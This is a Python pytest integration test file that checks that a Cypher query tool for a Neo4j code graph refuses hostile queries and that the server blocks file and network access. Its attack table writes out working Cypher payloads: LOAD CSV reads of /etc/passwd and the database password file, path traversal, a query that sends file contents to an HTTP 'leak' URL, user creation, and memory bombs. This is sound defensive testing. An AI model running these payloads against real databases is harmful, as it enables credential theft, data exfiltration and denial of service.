"""Analyst Cypher (`spider cypher`) is a bounded read of the code graph: every attack of issue 18 is refused with a
one-line error, and the local Neo4j itself refuses file and network access to a statement that skips the gate.
`spider cypher` runs in this process (`invoke_spider`), but for Ctrl-C, which needs a process of its own."""

from __future__ import annotations

import http.server
import json
import os
import signal
import subprocess
import threading
import time
from pathlib import Path
from typing import Iterator

import pytest
from neo4j.exceptions import ClientError
from spider import cypher
from spider.core.settings import Settings
from spider.indexer.graph import neo4j_local

from tests.integration.helpers import (
    EXPRESSION_COSTS,
    MEMORY_BOMBS,
    SLACK,
    assert_the_server_let_go,
    invoke_spider,
    one_line_error,
    running,
    succeeded,
    thread_cpu,
)

ENDLESS = "UNWIND range(1, 100000000000) AS x RETURN count(x) AS n"
local_only = pytest.mark.skipif(Settings.from_env().neo4j is not None, reason="the local launcher's settings")


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1: (its port, the paths of the requests it received)."""
    requests: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"a,b\n")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield str(server.server_address[1]), requests
    server.shutdown()


def password_file() -> Path:
    return Path(os.environ["SPIDER_HOME"]) / "neo4j" / "password"


def attacks(port: str) -> dict[str, str]:
    leak = f"http://127.0.0.1:{port}/leak"
    return {
        "load_csv_etc_passwd": "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
        "load_csv_password_file": f"LOAD CSV FROM 'file://{password_file()}' AS l RETURN l",
        "load_csv_dot_dot": "LOAD CSV FROM 'file:///../../../../etc/passwd' AS l RETURN l",
        "load_csv_in_subquery": "MATCH (v:Snapshot {repo: $repo}) CALL (v) { LOAD CSV FROM 'file:///etc/passwd' AS l "
                                "RETURN l } RETURN l",
        "load_csv_http": f"LOAD CSV FROM '{leak}?d=' + 'x' AS l RETURN l",
        "load_csv_exfiltrate": f"LOAD CSV FROM 'file:///etc/passwd' AS l LOAD CSV FROM '{leak}?d=' + l[0] AS m "
                               "RETURN m",
        "terminate_transactions": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
        "show_transactions": "SHOW TRANSACTIONS",
        "show_users": "SHOW USERS",
        "show_settings": "SHOW SETTINGS",
        "create_user": "CREATE USER mallory SET PASSWORD 'correct-horse-battery'",
        "clear_query_caches": "CALL db.clearQueryCaches()",
        "list_config": "CALL dbms.listConfig() YIELD name, value RETURN name, value",
        "in_transactions": "UNWIND [1] AS x CALL (x) { RETURN x AS y } IN TRANSACTIONS RETURN y",
        "two_statements": "MATCH (n:Snapshot) RETURN n.repo AS repo;\nMATCH (m:Snapshot) RETURN m.repo AS repo",
        "write": "CREATE (n:Function {repo: $repo, id: 'injected'}) RETURN n.id AS id",
        "comprehension_of_a_billion": "RETURN size([x IN range(1, 1000000000) | 1]) AS n",
    }


ATTACKS = list(attacks("0"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_is_refused_in_one_line_and_leaks_nothing(attack, shop, tmp_path, listener):
    port, requests = listener
    query = tmp_path / f"{attack}.cypher"
    query.write_text(attacks(port)[attack] + "\n")

    result = invoke_spider("cypher", query, "--repo", shop)

    line = one_line_error(result)
    assert "root:" not in line and password_file().read_text().strip() not in line
    assert requests == []


def test_the_refusal_says_why(shop, tmp_path):
    query = tmp_path / "q.cypher"
    reasons = {}
    for attack in ("load_csv_etc_passwd", "terminate_transactions", "show_users", "clear_query_caches", "write"):
        query.write_text(attacks("0")[attack])
        reasons[attack] = one_line_error(invoke_spider("cypher", query, "--repo", shop))

    assert "LOAD CSV" in reasons["load_csv_etc_passwd"]
    assert "TerminateTransactions" in reasons["terminate_transactions"]
    assert "administration" in reasons["show_users"]
    assert "db.clearQueryCaches" in reasons["clear_query_caches"]
    assert "writes" in reasons["write"]


def test_reads_of_the_graph_and_the_read_procedures_still_run(shop, tmp_path):
    query = tmp_path / "labels.cypher"
    query.write_text("CALL db.labels() YIELD label RETURN label ORDER BY label")

    out = succeeded(invoke_spider("cypher", query, "--json"))

    assert '"label": "Function"' in out


def test_only_analyst_queries_run_by_name_and_help_lists_only_them(shop):
    internal = one_line_error(invoke_spider("cypher", "version_truncate", "--repo", shop, "-p", "seq=0"))
    job = one_line_error(invoke_spider("cypher", "job_create", "--repo", shop))
    out = succeeded(invoke_spider("cypher", "--help"))

    assert internal.startswith("spider: error: no query named 'version_truncate'")
    assert job.endswith(f"(named: {', '.join(cypher.ANALYST)})")
    named = " ".join(out.split("Named queries:")[1].split("Options:")[0].split())
    assert named == ", ".join(cypher.ANALYST) + "."


def test_a_bogus_snapshot_is_an_error_and_a_prefix_is_resolved(shop, store):
    sha = store.list_snapshots(shop)[0].snapshot
    callers = ["cypher", "callers", "--repo", shop, "-p", "id=shop/payments.py:charge", "--json"]

    bogus = one_line_error(invoke_spider(*callers, "-p", "snapshot=deadbeef"))
    not_text = one_line_error(invoke_spider(*callers, "-p", "snapshot=[1]"))
    by_prefix = succeeded(invoke_spider(*callers, "-p", f"snapshot={sha[:8]}"))

    assert bogus.startswith(f"spider: error: no complete snapshot of {shop} matches 'deadbeef'")
    assert not_text == "spider: error: --param snapshot takes a name, not [1]"
    assert by_prefix == succeeded(invoke_spider(*callers)) and "shop/service.py:checkout" in by_prefix


def test_a_query_past_the_timeout_is_stopped_with_a_one_line_error(shop, tmp_path):
    query = tmp_path / "endless.cypher"
    query.write_text(ENDLESS)

    started = time.monotonic()
    line = one_line_error(invoke_spider("cypher", query, env={"SPIDER_CYPHER_TIMEOUT": "2"}))

    assert time.monotonic() - started < 30
    assert line == "spider: error: the query ran longer than 2 s and was stopped (SPIDER_CYPHER_TIMEOUT sets the " \
                   "limit in seconds)"


@pytest.mark.parametrize("value", ["abc", "0", "-5", "1.5"])
def test_a_bad_timeout_setting_is_a_one_line_error(value, shop):
    line = one_line_error(invoke_spider("cypher", "callers", "--repo", shop, "-p", "id=x",
                                        env={"SPIDER_CYPHER_TIMEOUT": value}))

    assert line == f"spider: error: SPIDER_CYPHER_TIMEOUT must be a positive whole number, not {value!r}"


@pytest.mark.parametrize("text", [ENDLESS.replace("count(x) AS n", "count(x) AS {name}"),
                                  EXPRESSION_COSTS["reduce_arithmetic"]], ids=["rows", "one_expression"])
def test_one_interrupt_stops_the_query_and_the_process(text, shop, tmp_path, store):
    query = tmp_path / "endless.cypher"
    marker = f"x_{shop[-10:]}"
    query.write_text(text.format(name=marker))
    before = thread_cpu()
    # a process of its own: the handler ends the process (os._exit) on the first Ctrl-C
    process = subprocess.Popen(["spider", "cypher", str(query)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True, env={**os.environ, "SPIDER_CYPHER_TIMEOUT": "600"})
    try:
        deadline = time.monotonic() + 60
        while not running(store, f"AS {marker}") and time.monotonic() < deadline:
            time.sleep(0.2)
        assert running(store, f"AS {marker}"), "the query never started"

        process.send_signal(signal.SIGINT)
        stdout, stderr = process.communicate(timeout=5)
    finally:
        process.kill()

    assert process.returncode == 130
    assert stderr == "spider: interrupted (the query was cancelled; a read changes nothing)\n" and stdout == ""
    assert_the_server_let_go(store, marker, before)


@local_only
@pytest.mark.parametrize("case", list(EXPRESSION_COSTS))
def test_an_expression_past_the_timeout_is_stopped_on_the_server(case, shop, tmp_path, store):
    query = tmp_path / f"{case}.cypher"
    marker = f"{case}_{shop[-10:]}"
    query.write_text(EXPRESSION_COSTS[case].format(name=marker))
    before = thread_cpu()

    started = time.monotonic()
    line = one_line_error(invoke_spider("cypher", query, env={"SPIDER_CYPHER_TIMEOUT": "2"}))

    assert time.monotonic() - started < 2 + SLACK
    assert line == "spider: error: the query ran longer than 2 s and was stopped (SPIDER_CYPHER_TIMEOUT sets the " \
                   "limit in seconds)"
    assert_the_server_let_go(store, marker, before)


@local_only
def test_an_expression_over_a_list_too_long_to_build_is_refused_and_the_server_lives_on(shop, tmp_path, store):
    """A list comprehension allocates its whole result first: over range(1, 1000000000) that ran the heap out, and
    the server exited (-XX:+ExitOnOutOfMemoryError). An expression now walks at most 10 million elements."""
    query = tmp_path / "billion.cypher"
    query.write_text(attacks("0")["comprehension_of_a_billion"])

    line = one_line_error(invoke_spider("cypher", query))

    assert line == "spider: error: Cypher error: Cannot populate list values larger than 10000000 elements. " \
                   "Requested size: 1000000000"
    assert store.driver.execute_query("RETURN size([x IN range(1, 1000) | x]) AS n")[0][0]["n"] == 1000


@local_only
@pytest.mark.parametrize("case", list(MEMORY_BOMBS))
def test_an_expression_that_builds_more_than_the_heap_is_refused_and_the_server_lives_on(case, shop, tmp_path, store):
    """Each of these ended the server (OutOfMemoryError, -XX:+ExitOnOutOfMemoryError) before its timeout."""
    query = tmp_path / f"{case}.cypher"
    query.write_text(MEMORY_BOMBS[case])
    pid = neo4j_local.status()["pid"]

    started = time.monotonic()
    line = one_line_error(invoke_spider("cypher", query))

    assert time.monotonic() - started < SLACK
    assert line.startswith("spider: error: Cypher error: The expressions of this statement built more than 256 MiB "
                           "of strings and lists ("), line
    assert line.endswith("); the limit keeps one statement from filling the server's memory"), line
    assert neo4j_local.status()["pid"] == pid
    assert store.driver.execute_query("RETURN size([x IN range(1, 1000) | x]) AS n")[0][0]["n"] == 1000


@local_only
def test_expressions_that_build_ordinary_amounts_still_run(shop, store):
    """The budget is per statement: strings and lists an analyst builds, over every row, stay far below it."""
    rows = store.driver.execute_query(
        "UNWIND range(1, 100000) AS i WITH count(toString(i) + '.' + replace('a.b', '.', '::')) AS n "
        "RETURN n, size(reduce(s = '', x IN range(1, 2000) | s + 'name_' + x + ', ')) AS joined, "
        "size([x IN range(1, 100000) | x * 2]) AS doubled, size(split(reduce(s = '', x IN range(1, 1000) | "
        "s + 'line\n'), '\n')) AS lines")[0]
    assert dict(rows[0]) == {"n": 100000, "joined": 20893, "doubled": 100000, "lines": 1001}


def test_graph_values_print_as_labels_and_properties(shop, tmp_path):
    path = tmp_path / "path.cypher"
    path.write_text("MATCH p = (:Directory {repo: $repo})-[r:CONTAINS]->(f:File {repo: $repo}) "
                    "RETURN p, r, f ORDER BY f.id LIMIT 1")
    schema = tmp_path / "schema.cypher"
    schema.write_text("CALL db.schema.visualization()")

    row = json.loads(succeeded(invoke_spider("cypher", path, "--repo", shop, "--json")))[0]
    table = succeeded(invoke_spider("cypher", schema, "--repo", shop))

    assert row["f"]["labels"] == ["File"] and row["f"]["properties"]["repo"] == shop
    assert set(row["f"]) == {"labels", "properties", "id"}
    assert row["r"] == {"type": "CONTAINS", "properties": row["r"]["properties"], "id": row["r"]["id"],
                        "start": row["p"]["nodes"][0]["id"], "end": row["f"]["id"]}
    assert row["p"]["nodes"][1] == row["f"] and row["p"]["relationships"] == [row["r"]]
    assert '[{"labels": [' in table and '[{"type": "' in table and "<Node" not in table


# the server itself, for a statement that does not pass through spider's gate ---------------------------------------
@local_only
def test_the_local_server_refuses_file_urls_to_a_statement_that_skips_the_gate(store):
    for url in ("file:///etc/passwd", f"file://{password_file()}", "file:///../../../../etc/passwd"):
        with pytest.raises(ClientError) as refused:
            store.driver.execute_query(f"LOAD CSV FROM '{url}' AS l RETURN l")
        assert "'dbms.security.allow_csv_import_from_file_urls' is false" in refused.value.message


@local_only
def test_the_local_server_refuses_network_urls_to_a_statement_that_skips_the_gate(store, listener):
    port, requests = listener
    for host in ("127.0.0.1", "localhost", "[::1]", "10.0.0.1"):
        with pytest.raises(ClientError) as refused:
            store.driver.execute_query(f"LOAD CSV FROM 'http://{host}:{port}/leak' AS l RETURN l")
        assert "is blocked via the configuration property internal.dbms.cypher_ip_blocklist" in refused.value.message

    assert requests == []


@local_only
def test_the_local_server_bounds_transactions_and_confines_imports(store):
    rows = store.driver.execute_query(
        "SHOW SETTINGS YIELD name, value WHERE name IN ['db.transaction.timeout', 'server.directories.import', "
        "'dbms.security.allow_csv_import_from_file_urls'] RETURN name, value")[0]
    settings = {r["name"]: r["value"] for r in rows}

    assert settings["db.transaction.timeout"] == "15m"
    assert settings["dbms.security.allow_csv_import_from_file_urls"] == "false"
    imports = Path(settings["server.directories.import"])
    assert imports.is_relative_to(Path(os.environ["SPIDER_HOME"]).resolve()) and list(imports.iterdir()) == []


@local_only
def test_the_reader_role_script_is_valid_cypher_for_this_neo4j(store):
    """Community runs none of it (roles are Enterprise-only) but parses it all: a syntax error would show here."""
    script = Path(__file__).resolve().parents[4] / "deploy" / "reader-role.cypher"
    for statement in cypher.statements(script.read_text()):
        with store.driver.session(database="system") as session:
            try:
                session.run("EXPLAIN " + statement, password="a-long-enough-password").consume()
            except ClientError as exc:
                assert exc.code == "Neo.ClientError.Statement.UnsupportedAdministrationCommand", exc.message
